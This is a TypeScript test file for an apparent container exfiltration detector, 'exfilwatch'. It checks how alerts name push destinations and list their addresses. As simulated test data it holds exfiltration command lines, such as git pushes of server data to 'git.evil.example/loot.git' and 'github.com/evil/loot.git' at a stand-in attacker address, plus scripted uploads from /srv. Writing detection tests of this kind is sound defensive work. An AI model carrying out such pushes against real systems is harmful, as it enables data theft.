/**
 * Where an alert's destination name came from (`push.namedBy`) and where the bytes went
 * (`push.addresses`): a name a process chose (its command line, or an earlier push's) is not where its
 * bytes must have gone, so a responder is told which names exfilwatch found itself (DNS of the configured
 * hosts) and every address, and a push by egress named by a command line is summarised by its address.
 */
import { describe, expect, it } from 'vitest';
import { Alert as AlertProto } from '../../../src/generated/exfilwatch/v1/alert.js';
import { MiB, run, runResolved, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';

describe('push.namedBy and push.addresses', () => {
  it('a git push names its host by argv, and lists the address it sent to', () => {
    const s = new Scenario();
    const c = s.container();
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: s.init(c) });
    s.connect(git, ATTACKER_IP, 443).send(git, ATTACKER_IP, 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'argv', addresses: [`${ATTACKER_IP}:443`] });
    // The tool's own target stays the summary's destination; the address is in the response steps.
    expect(a?.summary).toContain('git push to github.com (');
    expect(a?.response.join('\n')).toContain(`to github.com (${ATTACKER_IP}:443) around`);
  });

  it('a push by egress named by its own command line is summarised by the address its bytes went to', () => {
    const s = new Scenario();
    const c = s.container();
    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app --src /srv', { parent: s.init(c) });
    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'argv', addresses: [`${ATTACKER_IP}:443`] });
    expect(a?.summary).toContain(`sent by up to ${ATTACKER_IP}:443 (named github.com by a command line, not by DNS)`);
  });

  it("a push by egress to an address an earlier push's command line named says so", () => {
    const s = new Scenario();
    const c = s.container();
    // The git push connects to the attacker's address (its /etc/hosts says github.com is there): a hint for
    // the node, which names another container's upload there.
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/acme/app.git', { parent: s.init(c) });
    s.connect(git, ATTACKER_IP, 443).send(git, ATTACKER_IP, 443, 10_000);
    s.wait(60_000);
    const other = s.container();
    const py = s.exec(other, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(other) });
    s.connect(py, ATTACKER_IP, 443).send(py, ATTACKER_IP, 443, 3 * MiB);
    const alerts = run(s.events).alerts;
    const egress = alerts.find((x) => x.push.tool === 'python');
    expect(egress?.push).toMatchObject({
      destination: 'github.com',
      namedBy: 'hint',
      addresses: [`${ATTACKER_IP}:443`],
    });
    expect(egress?.summary).toContain(
      `to ${ATTACKER_IP}:443 (named github.com by an earlier push's command line, not by DNS)`,
    );
  });

  it('a push by egress to an address DNS gave for a configured host is named by dns, and summarised by name', async () => {
    const s = new Scenario();
    const c = s.container();
    const py = s.exec(c, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(c) });
    s.connect(py, GITHUB_IP, 443).send(py, GITHUB_IP, 443, 3 * MiB);
    const [a] = (await runResolved(s.events)).alerts;
    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'dns', addresses: [`${GITHUB_IP}:443`] });
    expect(a?.summary).toContain('sent by python to github.com from');
  });

  it('an address with no name: namedBy null, the address is the destination', () => {
    const s = new Scenario();
    const c = s.container();
    const git = s.exec(c, '/usr/bin/git', 'push origin main', { parent: s.init(c) });
    s.connect(git, ATTACKER_IP, 22).send(git, ATTACKER_IP, 22, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({
      destination: `${ATTACKER_IP}:22`,
      namedBy: null,
      addresses: [`${ATTACKER_IP}:22`],
    });
  });

  it('both fields read into the generated exfilwatch.v1.Alert', () => {
    const s = new Scenario();
    const c = s.container();
    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app', { parent: s.init(c) });
    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    const back = AlertProto.decode(AlertProto.encode(AlertProto.fromJSON(JSON.parse(JSON.stringify(a)))).finish());
    expect(back.push?.namedBy).toBe('argv');
    expect(back.push?.addresses).toEqual([`${ATTACKER_IP}:443`]);
  });
});

describe('names and addresses a process cannot steer', () => {
  it('bytes sent under one name add up, but the push is named as its weakest address was: a host entry does not exempt it', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app --src /srv', { parent: s.init(c) });
    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 0.99 * MiB);
    // A few bytes to github.com's real address (named by DNS) carry the sum over 1 MiB.
    const py = s.exec(c, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(c) });
    s.wait(1000)
      .connect(py, GITHUB_IP, 443)
      .send(py, GITHUB_IP, 443, 0.05 * MiB);
    const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci pushes' }];
    const [a, ...more] = (await runResolved(s.events, { allowlist })).alerts;
    expect(more).toEqual([]);
    expect(a?.push.destination).toBe('github.com');
    expect(a?.push.namedBy).toBe('argv');
    expect(a?.push.addresses).toEqual(expect.arrayContaining([`${ATTACKER_IP}:443`, `${GITHUB_IP}:443`]));
    // The summary leads with the address whose name a command line chose, not the DNS-named one.
    expect(a?.summary).toContain(`to ${ATTACKER_IP}:443 (named github.com by a command line, not by DNS)`);
    // A CIDR entry covering github.com's address only does not exempt it either: every address must be in.
    const byCidr = [{ namespace: 'ci', destination: '140.82.112.0/20', reason: 'ci pushes' }];
    expect((await runResolved(s.events, { allowlist: byCidr })).alerts).toHaveLength(1);
  });

  it('a push by egress to a DNS-named address teaches nothing about the other addresses its process talks to', async () => {
    const s = new Scenario();
    const c = s.container();
    const agent = s.exec(c, '/opt/agent', '--run', { parent: s.init(c) });
    s.connect(agent, GITHUB_IP, 443).send(agent, GITHUB_IP, 443, 2 * MiB);
    s.wait(1000).connect(agent, ATTACKER_IP, 443);
    s.wait(120_000).send(agent, ATTACKER_IP, 443, 5 * MiB);
    const alerts = (await runResolved(s.events, { config: { suppressionMs: 1000 } })).alerts;
    // One push, to github.com; the 5 MiB to an address nobody named is nothing (not a forge's, as far as known).
    expect(alerts.map((a) => [a.push.destination, a.push.namedBy, a.egressBytes])).toEqual([
      ['github.com', 'dns', 2 * MiB],
    ]);
  });

  it("a table tool's usual registry is named by default, not by argv, and teaches the node nothing", () => {
    const s = new Scenario();
    const c = s.container();
    const npm = s.exec(c, '/usr/bin/npm', 'publish', { parent: s.init(c) });
    s.connect(npm, ATTACKER_IP, 443).send(npm, ATTACKER_IP, 443, 2 * MiB);
    s.wait(60_000);
    const other = s.container();
    const py = s.exec(other, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(other) });
    s.connect(py, ATTACKER_IP, 443).send(py, ATTACKER_IP, 443, 3 * MiB);
    const alerts = run(s.events).alerts;
    expect(alerts.map((a) => [a.push.tool, a.push.destination, a.push.namedBy])).toEqual([
      ['npm', 'registry.npmjs.org', 'default'],
    ]);
  });

  it('Falco (no exec ids): a second push of the same tool to another host is its own push, not the first', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    const g1 = s.exec(c, '/usr/bin/git', 'push https://github.com/acme/app.git main', { parent: sh });
    s.connect(g1, GITHUB_IP, 443).send(g1, GITHUB_IP, 443, 10_000);
    s.wait(2000);
    const g2 = s.exec(c, '/usr/bin/git', 'push https://git.evil.example/loot.git main', { parent: sh });
    s.connect(g2, ATTACKER_IP, 443).send(g2, ATTACKER_IP, 443, 80 * MiB);
    const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }];
    const alerts = run(s.events, { allowlist }).alerts;
    expect(alerts.map((a) => [a.push.destination, a.push.addresses])).toEqual([
      ['git.evil.example', [`${ATTACKER_IP}:443`]],
    ]);
  });

  it('a repeat under the same name sent to another address is not suppressed as one', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const py = s.exec(c, '/usr/bin/python3', '/app/release.py', { parent: s.init(c) });
    s.connect(py, GITHUB_IP, 443).send(py, GITHUB_IP, 443, 2 * MiB);
    s.wait(5 * 60_000);
    const up = s.exec(c, '/usr/bin/python3', '/tmp/x.py --note https://github.com/acme/app', { parent: s.init(c) });
    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 30 * MiB);
    const alerts = (await runResolved(s.events)).alerts;
    expect(alerts.map((a) => a.push.addresses)).toEqual([[`${GITHUB_IP}:443`], [`${ATTACKER_IP}:443`]]);
  });

  it("a docker daemon's bridged upload is evidence, not the push's address (it may be another pod's)", () => {
    const s = new Scenario();
    const c = s.container();
    s.exec(c, '/usr/bin/docker', 'push ghcr.io/acme/app:1', { parent: s.init(c) });
    const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
    s.wait(1000).connect(dockerd, '198.51.100.7', 5000);
    for (let i = 0; i < 20; i++) s.send(dockerd, '198.51.100.7', 5000, MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push.addresses).toEqual([]);
    expect(a?.evidence.some((x) => x.kind === 'bridge-egress' && x.detail.includes('198.51.100.7:5000'))).toBe(true);
  });

  it('the resolver (Falco sends UDP connects) is neither the destination nor an address', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container();
    const svn = s.exec(c, '/usr/bin/svn', 'commit -m x', { parent: s.init(c) });
    s.connect(svn, '10.96.0.10', 53, { protocol: 'udp' }).send(svn, '10.96.0.10', 53, 40, { protocol: 'udp' });
    s.connect(svn, '203.0.113.80', 443).send(svn, '203.0.113.80', 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({ destination: '203.0.113.80:443', addresses: ['203.0.113.80:443'] });
  });
});
